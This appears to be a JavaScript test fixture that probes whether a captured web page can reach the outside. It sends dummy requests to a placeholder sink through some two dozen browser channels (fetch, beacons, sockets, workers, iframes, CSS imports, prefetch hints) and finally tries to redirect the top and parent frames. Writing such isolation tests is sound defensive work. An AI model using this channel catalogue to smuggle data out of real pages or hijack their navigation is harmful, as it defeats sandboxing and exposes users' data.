// What a captured page tries: every way to the outside that a browser has. SINK is an address, SINKHOST host and port.
const tried = [];
const attempt = (name, what) => { try { Promise.resolve(what()).catch(() => {}); tried.push(name); } catch (error) { tried.push(`${name}: ${error.name}`); } };
const add = (tag, attributes) => document.body.append(Object.assign(document.createElement(tag), attributes));
attempt("fetch", () => fetch("SINK/fetch", { mode: "no-cors" }));
attempt("keepalive", () => fetch("SINK/keepalive", { mode: "no-cors", keepalive: true, method: "POST", body: "x" }));
attempt("xhr", () => { const ask = new XMLHttpRequest(); ask.open("GET", "SINK/xhr"); ask.send(); });
attempt("beacon", () => navigator.sendBeacon("SINK/beacon", "x"));
attempt("events", () => new EventSource("SINK/events"));
attempt("socket", () => new WebSocket("ws://SINKHOST/socket"));
attempt("image", () => { new Image().src = "SINK/image"; });
attempt("audio", () => { new Audio("SINK/audio").play(); });
for (const rel of ["prefetch", "preconnect", "dns-prefetch", "preload", "modulepreload", "prerender", "stylesheet", "icon", "manifest"])
  attempt(rel, () => document.head.append(Object.assign(document.createElement("link"), { rel, href: `SINK/${rel}`, as: "image" })));
attempt("rules", () => add("script", { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ source: "list", urls: ["SINK/rules"] }] }) }));
attempt("import", () => add("style", { textContent: "@import 'SINK/import'; @font-face { font-family: x; src: url(SINK/font) } * { background: url(SINK/background); font-family: x }" }));
attempt("script", () => add("script", { src: "SINK/script" }));
attempt("frame", () => add("iframe", { src: "SINK/frame" }));
attempt("srcdoc", () => add("iframe", { srcdoc: "<img src=SINK/srcdoc><script>fetch('SINK/srcdoc-fetch')<\/script>" }));
attempt("blob", () => add("iframe", { src: URL.createObjectURL(new Blob(["<img src=SINK/blob>"], { type: "text/html" })) }));
attempt("object", () => add("object", { data: "SINK/object" }));
attempt("worker", () => new Worker(URL.createObjectURL(new Blob(["fetch('SINK/worker'); importScripts('SINK/import-scripts')"]))));
attempt("service", () => navigator.serviceWorker.register("SINK/service.js"));
attempt("ping", () => { const link = Object.assign(document.createElement("a"), { href: "#x", ping: "SINK/ping" }); document.body.append(link); link.click(); });
attempt("transport", () => new WebTransport("https://SINKHOST/transport"));
document.body.dataset.tried = tried.join("; ");
// What would lead this page away comes last, when all the above has been seen and the frames below have tried theirs.
const watch = setInterval(() => {
  if (!document.body.dataset.goOn || document.body.dataset.ended?.split(" ").length !== ENDINGS) return;
  clearInterval(watch);
  attempt("top", () => { top.location.href = "SINK/top"; });
  attempt("parent", () => { parent.location.replace("SINK/parent"); });
  document.body.dataset.over = "1";
}, 100);
